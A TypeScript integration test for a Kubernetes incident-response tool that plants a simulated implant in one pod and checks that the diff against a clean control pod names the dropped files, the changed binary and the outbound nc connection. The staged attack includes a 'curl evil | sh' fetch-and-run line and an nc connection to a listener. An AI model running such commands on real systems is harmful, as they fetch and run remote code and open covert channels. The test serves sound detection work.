/**
 * The control sample on the real local cluster: a Deployment of two pods from one template; in one (the
 * suspect) an "attacker" drops two files, changes a binary and holds an outbound connection to a listener pod.
 * An incident about it (preserve, control, isolate) on the real Temporal dev server and a real worker: the diff
 * names exactly those changes and nothing of the clean pod it was compared with, its summary leads the status,
 * and the clean pods are neither relabelled, annotated nor selected by the quarantine policy.
 */
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import type { ControlDiff } from '../../adapters/kubernetes/control/diff';
import { resolveSignal, type IncidentStatus } from '../../workflows/definitions';
import { missingServers } from '../helpers/env';
import { sampleAlert, startHarness, type Harness } from '../helpers/incident-harness';
import {
  createReadyNamespace,
  deploymentOf,
  deploymentReady,
  execIn,
  IMAGES,
  kubeClients,
  localCollectorCluster,
  shellPod,
  waitFor,
} from '../helpers/kube';

const KUBECONFIG = process.env.HOLDFAST_TEST_KUBECONFIG;
const SKIP =
  missingServers() ??
  (KUBECONFIG ? false : 'HOLDFAST_TEST_KUBECONFIG not set: the local cluster needs root; run npm run cluster:up');
const NS = `holdfast-control-${crypto.randomBytes(3).toString('hex')}`;
const PORT = 9000;

describe('control sample: the suspect against a clean pod of its template', { skip: SKIP, timeout: 6 * 60_000 }, () => {
  let admin: ReturnType<typeof kubeClients>;
  let h: Harness;
  let listenerIp: string;

  before(async () => {
    admin = kubeClients(KUBECONFIG!);
    await createReadyNamespace(admin.core, { metadata: { name: NS } });
    // The attacker's peer: outside the Deployment, accepting one connection after another; its stdin never ends
    // (busybox nc closes the connection at the end of its stdin).
    // A pod without a controller: no sibling from its template exists.
    await admin.core.createNamespacedPod({ namespace: NS, body: shellPod('loner', IMAGES.busybox, 'sleep 100000') });
    await admin.core.createNamespacedPod({
      namespace: NS,
      body: shellPod('listener', IMAGES.busybox, `while :; do sleep 1000000 | nc -l -p ${PORT} > /dev/null; done`),
    });
    await admin.apps.createNamespacedDeployment({
      namespace: NS,
      body: deploymentOf('web', {
        name: 'app',
        image: IMAGES.hostile,
        command: ['sleep', '100000'],
        resources: { limits: { cpu: '200m' } },
      }),
    });
    await waitFor(
      'deployment ready',
      120_000,
      async () => (await deploymentReady(admin.apps, NS, 'web', 2)) || undefined,
    );
    listenerIp = await waitFor('listener ip', 60_000, async () => {
      const p = await admin.core.readNamespacedPod({ name: 'listener', namespace: NS });
      return p.status?.containerStatuses?.[0]?.state?.running ? p.status.podIP : undefined;
    });
    assert.match(listenerIp, /^\d{1,3}(\.\d{1,3}){3}$/);
    h = await startHarness(
      `
notifiers: [{ name: oncall, type: webhook, url: "http://127.0.0.1:9/unused" }]
playbooks:
  - name: control
    capture: [control]
    contain: [isolate]
    escalation: { tiers: [{ notifiers: [oncall] }] }
`,
      { liveCluster: localCollectorCluster(admin.kc), clusterName: 'local' },
    );
  });

  after(async () => {
    await h?.close();
    await admin?.core.deleteNamespace({ name: NS, gracePeriodSeconds: 0 }).catch(() => undefined);
  });

  test('the diff names the dropped files, the changed binary, the connection and its processes; nothing else', async (t) => {
    const pods = (await admin.core.listNamespacedPod({ namespace: NS, labelSelector: 'app=web' })).items;
    assert.equal(pods.length, 2);
    const [suspect, sibling] = pods.map((p) => p.metadata!.name!) as [string, string];

    // The attack: two files dropped, a binary changed, a connection out held by a process of its own.
    const attack = [
      `printf 'curl evil | sh\\n' > /tmp/implant.sh && chmod 755 /tmp/implant.sh`,
      `printf 'loot' > /root/.loot`,
      `printf 'X' >> /hostile`,
      `setsid sh -c 'sleep 86401 | nc ${listenerIp} ${PORT}' < /dev/null > /dev/null 2>&1 &`,
    ].join(' && ');
    const done = await execIn(admin.exec, NS, suspect, 'app', ['sh', '-c', attack]);
    assert.equal(done.code, 0, done.stderr);
    const hexPort = PORT.toString(16).toUpperCase().padStart(4, '0');
    await waitFor('the outbound connection', 30_000, async () => {
      const tcp = await execIn(admin.exec, NS, suspect, 'app', ['cat', '/proc/net/tcp']);
      const established = tcp.stdout.split('\n').some((line) => {
        const f = line.trim().split(/\s+/);
        return f[2]?.endsWith(`:${hexPort}`) && f[3] === '01';
      });
      return established || undefined;
    });

    const alert = sampleAlert(
      { rule: 'Dropped implant', severity: 'high' },
      { cluster: 'local', namespace: NS, pod: suspect, container: 'app' },
    );
    const handle = await h.open(alert);
    const status = await h.waitForStatus(
      handle,
      (s) => s.steps.some((x) => x.name === 'control' && (x.state === 'succeeded' || x.state === 'failed')),
      240_000,
    );
    const step = status.steps.find((x) => x.name === 'control')!;
    assert.equal(step.state, 'succeeded', step.error);
    t.diagnostic(`control summary: ${status.control?.summary}; notes: ${JSON.stringify(status.notes)}`);

    const control = status.control!;
    assert.ok(control.control, JSON.stringify(control));
    assert.notEqual(control.control.pod, suspect, 'the control is never the suspect');
    assert.match(
      control.summary,
      /^2 files added, 1 binary changed, [1-3] process(es)? not in the control, 1 outbound connection not in the control$/,
    );
    assert.equal(status.notes?.[0], `compared with the control ${control.control.pod}: ${control.summary}`);

    const stored = [...h.evidence.objects.entries()].find(([key]) => key.endsWith('/control/diff.json'));
    assert.ok(stored, 'diff.json is stored under control/');
    const diff = JSON.parse(stored[1].body.toString('utf8')) as ControlDiff & { control: string };
    assert.equal(diff.control, control.control.pod);
    assert.deepEqual(
      diff.filesAdded.map((f) => f.path),
      ['/root/.loot', '/tmp/implant.sh'],
    );
    assert.deepEqual(
      diff.contentChanged.map((f) => [f.path, f.binary]),
      [['/hostile', true]],
    );
    assert.deepEqual(diff.permissionChanged, []);
    assert.deepEqual(diff.removedFromSuspect, []);
    assert.deepEqual(diff.listenersOnlyInSuspect, []);
    assert.deepEqual(diff.connectionsOnlyInSuspect, [
      { direction: 'outbound', protocol: 'tcp', state: 'ESTABLISHED', peer: listenerIp, port: PORT },
    ]);
    for (const p of diff.processesOnlyInSuspect)
      assert.match(
        p.cmdline,
        new RegExp(`^(sleep 86401|nc ${listenerIp.replaceAll('.', '\\.')} ${PORT}|sh -c sleep 86401 \\| nc .*)$`),
        p.cmdline,
      );
    assert.ok(
      diff.processesOnlyInSuspect.some((p) => p.cmdline.startsWith('nc ')),
      "the connection's process",
    );
    for (const name of ['control-pod.json', 'suspect-snapshot.json', 'control-snapshot.json'])
      assert.ok(
        [...h.evidence.objects.keys()].some((k) => k.endsWith(`/control/${name}`)),
        name,
      );

    // The clean pods (the sibling and the replacement preserve caused) stay as they were: never relabelled,
    // annotated or quarantined; only the suspect carries Holdfast's marks.
    await h.waitForStatus(handle, (s) => s.steps.some((x) => x.name === 'isolate' && x.state === 'succeeded'), 120_000);
    const now = (await admin.core.listNamespacedPod({ namespace: NS, labelSelector: 'app=web' })).items;
    assert.ok(
      now.some((p) => p.metadata!.name === sibling),
      'the sibling still serves',
    );
    for (const p of now) {
      assert.equal(p.metadata?.labels?.['holdfast.io/quarantine'], undefined, p.metadata!.name);
      assert.deepEqual(
        Object.keys(p.metadata?.annotations ?? {}).filter(
          (k) => k.startsWith('holdfast.io/') || k.includes('safe-to-evict'),
        ),
        [],
        p.metadata!.name,
      );
    }
    const policies = await admin.net.listNamespacedNetworkPolicy({ namespace: NS });
    assert.equal(policies.items.length, 1);
    const selector = policies.items[0]!.spec!.podSelector?.matchLabels ?? {};
    assert.deepEqual(Object.keys(selector), ['holdfast.io/quarantine']);

    t.diagnostic(
      `control: ${control.control.pod} (${control.control.pod === sibling ? 'the sibling' : 'the replacement preserve caused'})`,
    );

    // The page after the seal leads with the comparison.
    const line = `compared with the control ${control.control.pod}: ${control.summary}`;
    const paged = await waitFor('the escalation page', 60_000, async () =>
      h.notifiers.get('oncall')!.sent.find((e) => e.incidentId === status.incidentId && e.details?.includes(line)),
    );
    // Only a containment finding (not effective, unverified) may come before it.
    const before = paged.details!.slice(0, paged.details!.indexOf(line));
    assert.ok(
      before.every((d) => /^(CONTAINMENT NOT EFFECTIVE|containment not verified)/.test(d)),
      JSON.stringify(paged.details),
    );

    await handle.signal(resolveSignal, { by: 'tester', undoContainment: true });
    assert.equal(((await handle.result()) as IncidentStatus).phase, 'resolved');
  });

  test('a pod without a controller: the control sample is skipped, with the reason in the status and the evidence', async () => {
    await waitFor('loner running', 60_000, async () => {
      const p = await admin.core.readNamespacedPod({ name: 'loner', namespace: NS });
      return p.status?.containerStatuses?.[0]?.state?.running ? true : undefined;
    });
    const handle = await h.open(
      sampleAlert(
        { rule: 'Loner', severity: 'low' },
        { cluster: 'local', namespace: NS, pod: 'loner', container: 'app' },
      ),
    );
    const status = await h.waitForStatus(handle, (s) => s.control !== undefined, 120_000);
    assert.deepEqual(status.control, {
      summary: 'control sample skipped: the pod has no controller',
      skipped: true,
    });
    assert.equal(status.notes?.[0], 'control sample skipped: the pod has no controller');
    assert.equal(status.steps.find((s) => s.name === 'control')?.state, 'skipped');
    await waitFor('the skip record', 30_000, async () =>
      [...h.evidence.objects.keys()].find(
        (k) => k.includes(status.incidentId) && k.endsWith('/control/control-skipped.json'),
      ),
    );
    await handle.signal(resolveSignal, { by: 'tester', undoContainment: true });
    assert.equal(((await handle.result()) as IncidentStatus).phase, 'resolved');
  });
});
